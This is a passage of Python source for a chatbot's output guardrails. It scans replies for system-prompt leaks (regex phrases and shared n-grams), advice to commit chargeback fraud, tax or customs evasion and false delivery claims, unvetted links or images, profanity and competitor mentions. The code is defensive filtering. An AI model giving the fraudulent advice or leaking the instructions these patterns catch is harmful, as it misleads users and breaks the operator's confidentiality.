    r"|rules|programming|configuration)\b(?: (?:say|says|state|states|tell me|are|is|include|read))?"
    r"|(?:my|the) (?:original|initial|hidden|secret|internal) instructions"
    r"|I (?:was|have been|'ve been|am|'m) (?:told|instructed|programmed|configured|prompted|asked) "
    r"(?:not )?to"
    r"|(?:here are|these are|here is) my (?:instructions|rules|guidelines|prompt))\b"
)


@lru_cache(maxsize=32)
def _prompt_ngrams(prompt: str) -> frozenset[tuple[str, ...]]:
    words = _LEAK_WORD.findall(prompt.lower())
    return frozenset(tuple(words[i : i + LEAK_NGRAM]) for i in range(len(words) - LEAK_NGRAM + 1))


def _leaked(reply: str, system_prompts: Sequence[str], passages: Mapping[str, str]) -> str | None:
    """The first run of LEAK_NGRAM words the reply shares with a system prompt (and no passage), if any."""
    words = _LEAK_WORD.findall(reply.lower())
    if len(words) < LEAK_NGRAM:
        return None
    grams = [tuple(words[i : i + LEAK_NGRAM]) for i in range(len(words) - LEAK_NGRAM + 1)]
    for prompt in system_prompts:
        known = _prompt_ngrams(prompt)
        for gram in grams:
            if gram in known:
                passage_text = " ".join(_LEAK_WORD.findall(" ".join(passages.values()).lower()))
                if " ".join(gram) not in passage_text:
                    return " ".join(gram)
    return None


# --- unlawful advice ---------------------------------------------------------------------------------------

_UNLAWFUL = _rx(
    # keep the goods and claw the money back: chargeback fraud
    r"\bkeep (?:the|your|both|it|them)(?: \w+){0,2}\b[^.!?]{0,40}\b(?:and|but|while|then)\b[^.!?]{0,25}"
    r"\b(?:dispute|charge ?back|reverse|cancel|stop|block) (?:the |your )?(?:charge|payment|transaction"
    r"|card payment|direct debit)s?\b"
    r"|\b(?:dispute|charge ?back|reverse) (?:the |your )?(?:charge|payment|transaction)s? anyway\b"
    r"|\bfile (?:a )?charge ?backs? anyway\b"
    # hiding things from the tax and customs authorities
    r"|\b(?:just |simply )?(?:don'?t|do not|no need to|never|you don'?t (?:have|need) to) (?:declare|report"
    r"|disclose|mention)\b[^.!?]{0,30}\b(?:customs|tax|taxes|irs|cra|hmrc|income|border|authorities)\b"
    r"|\b(?:just |simply )(?:don'?t|do not) (?:declare|report|disclose) (?:it|them|that|this)\b"
    r"|\b(?:avoid|evade|dodge|get out of)(?:ing)? (?:paying )?(?:the |any |your )?(?:sales |income |property"
    r" |import )?(?:tax|taxes|vat|gst|hst|duty|duties|customs)\b"
    # deceiving the shop, a carrier or a bank
    r"|\b(?:pretend|lie|fib|make up|fake|invent)\b[^.!?]{0,40}\b(?:damaged|broken|missing|lost|stolen"
    r"|never arrived|defective|faulty|didn'?t arrive|not delivered|not received)\b"
    r"|\b(?:say|claim|tell (?:them|the \w+|us|your bank))(?: that)? (?:it|the \w+) (?:was|arrived|is|never)"
    r" (?:damaged|broken|missing|lost|stolen|defective|faulty|arrived)\b[^.!?]{0,30}\b(?:even (?:if|though)"
    r"|although|when (?:it|they) (?:wasn'?t|isn'?t|didn'?t|weren'?t))"
    r"|\b(?:won'?t|will not|never) get caught\b|\b(?:no one|nobody|they never) (?:will |ever )?checks?\b"
    r"|\bwithout (?:anyone|them|the (?:police|authorities|bank|seller)) (?:noticing|finding out)\b"
    r"|\b(?:use|make|create|open|set up|sign up with) (?:a )?(?:new|second|another|different|fake|separate)"
    r" (?:account|email(?: address)?|identity|name|card)\b[^.!?]{0,40}\b(?:to|so you can|and)"
    r" (?:get|claim|use|redeem|start|have) (?:another |a new |a second |the |more )?(?:free trials?|trials?"
    r"|discounts?|promo|codes?|offers?|deals?)"
    # telling people the law or safety rules do not apply to them (MyCity)
    r"|\b(?:you can|it'?s (?:fine|ok|okay|legal|allowed) to|feel free to|go ahead and|just) (?:ignore|break"
    r"|bend|bypass|get around|skip) (?:the |any )?(?:law|laws|rules|regulations?|requirements?"
    r"|safety (?:warnings?|instructions|rules|notice)|recall(?: notice)?)\b"
    r"|\b(?:take|keep|pocket) (?:a cut of|some of|part of|a share of) (?:their|your (?:workers|employees"
    r"|staff)'?s?|the) tips\b"
    r"|\b(?:you can|landlords? can|employers? can|businesses can|it'?s legal to) (?:legally )?(?:refuse"
    r"|reject|turn away|fire|evict|discriminate against)\b[^.!?]{0,40}\b(?:section 8|vouchers?|tenants?"
    r"|pregnant|disabled|disability|race|religion|complain\w*|harassment|cash|union)"
)


# --- links and pictures -------------------------------------------------------------------------------------

_IMAGE = re.compile(r"(?:^|[^\\])(?:\\\\)*!\[|<img\b", re.IGNORECASE)
"""A Markdown picture (inline or by reference; an escaped backslash before it leaves it one) or an HTML one: a
page that shows it asks the server for it."""
_TARGETS = re.compile(
    r"\]\(\s*<?(?P<md>[^\s)>]+)"  # [text](target)
    r"|^\s*\[[^\]]+\]:\s*<?(?P<ref>[^\s>]+)"  # [label]: target
    r"|<(?P<auto>[a-z][a-z0-9+.-]{1,31}:[^\s<>]+)>"  # <scheme:target>
    r"|(?P<bare>\b(?:https?|ftp)://[^\s<>()\[\]\"'`]+|(?<![\w.@/-])www\.[^\s<>()\[\]\"'`]+)",
    re.IGNORECASE | re.MULTILINE,
)
"""Whatever a Markdown page makes a link of (GitHub's dialect: bare http(s) and www. addresses too)."""
_HOST_IN_TEXT = re.compile(
    r"(?:\b[a-z][a-z0-9+.-]*://|(?<![\w.-])www\.|@)(?P<host>[a-z0-9](?:[a-z0-9-]*[a-z0-9])?(?:\.[a-z0-9-]+)+)",
    re.IGNORECASE,
)
"""Hosts a text names: in addresses (`https://help.shop.example/...`, `www.shop.example`) and emails."""


_LINKISH = re.compile(r"\]\(|\]:|<[a-z]|://|www\.|!\[|&[#a-z]", re.IGNORECASE)
"""A cheap test first: most replies hold nothing a page would make a link or a picture of (`&`: an entity can
spell one, `https&#58;//`)."""


@lru_cache(maxsize=1)
def _markdown() -> MarkdownIt:
    return MarkdownIt("commonmark")


def _rendered(text: str, known: frozenset[str]) -> str | None:
    """What a CommonMark page makes of the text, where reading it sentence by sentence is not enough: a link
    whose address starts on the next line, one given by reference, entities decoded. The first picture, or
    link to a site not `known`, it would show; None when there is none."""
    for block in _markdown().parse(text):
        for token in block.children or ():
            if token.type == "image":
                return str(token.attrs.get("src") or "a picture")
            if token.type == "link_open":
                href = str(token.attrs.get("href") or "")
                host = _host(href)
                if host is None or (host and not _named(host, known)):
                    return href
    return None


def _host(target: str) -> str | None:
    """The host a link target leads to; "" for a relative link (this site); None when it cannot be read."""
    target = target.strip().rstrip(".,;:!?")
    if target.lower().startswith("www."):
        target = "//" + target
    try:
        parts = urlsplit(target)
        host = parts.hostname or ""
    except ValueError:
        return None
    if parts.scheme.lower() == "mailto":
        host = parts.path.rpartition("@")[2].lower()
    elif parts.scheme and parts.scheme.lower() not in {"http", "https", "ftp"}:
        return None  # javascript:, data:, tel:... never a link a reply needs to write
    return host.lower().removeprefix("www.").rstrip(".")


def _named(host: str, known: frozenset[str]) -> bool:
    return any(host == name or host.endswith("." + name) for name in known)


@lru_cache(maxsize=256)
def _known_hosts(texts: tuple[str, ...]) -> frozenset[str]:
    return frozenset(
        match.group("host").lower().removeprefix("www.")
        for text in texts
        for match in _HOST_IN_TEXT.finditer(text)
    )


def _links(raw: str, index: int, known: frozenset[str]) -> list[Violation]:
    """A picture anywhere, or a link to a site no passage of this turn (nor the brand's contacts) names."""
    image = _IMAGE.search(raw)
    if image:
        return [Violation("link", _ev(raw[image.start() :]), index, "remove_sentence", "image")]
    for match in _TARGETS.finditer(raw):
        target = next(value for value in match.groups() if value)
        host = _host(target)
        if host is None or (host and not _named(host, known)):
            return [Violation("link", _ev(target), index, "remove_sentence", "link")]
    return []


# --- the check ---------------------------------------------------------------------------------------------


def check_reply(
    reply: str,
    *,
    citations: Sequence[Mapping[str, Any]],
    passages: Mapping[str, str],
    policy: Policy,
    system_prompts: Sequence[str] = (),
) -> list[Violation]:
    """Every output-rail violation in the reply, in sentence order (whole-reply ones last).

    `passages` maps chunk_id -> passage text of this turn; a sentence's citations are its [n] markers, each
    naming `citations[i]` with `citations[i]["n"] == n` and its `chunk_id`.
    """
    rules = _rules(policy)
    tone = policy.tone
    violations: list[Violation] = []
    linkish = _LINKISH.search(reply) is not None
    known = _known_hosts((*passages.values(), *policy.brand.contacts)) if linkish else frozenset()
    for sentence in split_sentences(reply):
        raw = reply[sentence.start : sentence.end]
        if linkish and _LINKISH.search(raw):
            violations.extend(_links(html.unescape(raw), sentence.index, known))
        text = sentence.text
        if not text:
            continue
        cited = cited_texts(sentence, citations, passages)
        lowered = text.lower()
        violations.extend(_commitments(sentence, lowered, cited, policy))
        if tone.profanity or rules.blocked_words is not None:
            view = _profanity_view(text)
            match = _PROFANITY.search(view) if tone.profanity and _PROFANITY is not None else None
            match = match or (rules.blocked_words.search(view) if rules.blocked_words is not None else None)
            if match:
                violations.append(Violation("profanity", _ev(match.group()), sentence.index, "block"))
        if tone.insults:
            match = _INSULT.search(lowered)
            if match:
                violations.append(Violation("insult", _ev(match.group()), sentence.index, "block"))
        if tone.disparagement:
            match = (
                (rules.brand.search(lowered) if rules.brand is not None else None)
                or _DISPARAGE_GENERIC.search(lowered)
                or _SELF_DISPARAGE.search(lowered)
            )
            if match:
                violations.append(Violation("disparagement", _ev(match.group()), sentence.index, "block"))
        violations.extend(_competitor(sentence, lowered, cited, policy, rules))
        match = _UNLAWFUL.search(lowered)
        if match:
            violations.append(Violation("unlawful_advice", _ev(match.group()), sentence.index, "block"))
        match = _DISCLOSURE.search(lowered)
        if match:
            violations.append(Violation("system_prompt_leak", _ev(match.group()), sentence.index, "block"))
    if (
        tone.disparagement
        and _poem(reply)
        and _brand_mentioned(reply, policy)
        and _ANY_JUDGEMENT.search(reply.lower())
    ):
        violations.append(
            Violation("disparagement", _ev(reply.strip().splitlines()[0]), None, "block", "poem")
        )
    if linkish:  # what the sentences above left, read as a page would render it
        removed = {v.sentence for v in violations if v.rail == "link" and v.sentence is not None}
        rest, _ = drop_sentences(reply, citations, removed) if removed else (reply, [])
        hidden = _rendered(rest, known)
        if hidden is not None:
            violations.append(Violation("link", _ev(hidden), None, "block", "rendered"))
    if system_prompts:
        leaked = _leaked(reply, system_prompts, passages)
        if leaked:
            violations.append(Violation("system_prompt_leak", _ev(leaked), None, "block", "ngram"))
    if violations:
        logger.info(
            "output rails: %s",
            ", ".join(sorted({f"{v.rail}:{v.kind or v.severity}" for v in violations})),
        )
    return violations


def _competitor(
    sentence: Sentence, lowered: str, cited: Sequence[str], policy: Policy, rules: _PolicyRules
) -> list[Violation]:
    text = sentence.text
    out: list[Violation] = []
    match = _ELSEWHERE.search(lowered)
    if match:
        out.append(
            Violation("competitor", _ev(match.group()), sentence.index, "remove_sentence", "elsewhere")
        )
    if rules.competitors is None:
        return out
    for name in rules.competitors.finditer(text):
        if policy.competitor_policy == "no_mention":
            if not any(name.group() in passage for passage in cited):
                out.append(
                    Violation("competitor", _ev(name.group()), sentence.index, "remove_sentence", "named")
                )
                break
        else:
            compare = _COMPARE.search(lowered)
            if compare:
                evidence = f"{name.group()} … {compare.group()}"
                out.append(
                    Violation("competitor", _ev(evidence), sentence.index, "remove_sentence", "compared")
                )
                break
    return out


def blocked(violations: Sequence[Violation]) -> bool:
    """True when the reply must not be sent at all (some violation blocks it)."""
    return any(v.severity == "block" for v in violations)


def redact(
    reply: str, citations: Sequence[Mapping[str, Any]], violations: Sequence[Violation]
) -> tuple[str, list[dict[str, Any]]]:
    """The reply without the sentences `remove_sentence` violations name, markers renumbered to match."""
    drop = {v.sentence for v in violations if v.severity == "remove_sentence" and v.sentence is not None}
    return drop_sentences(reply, citations, drop)
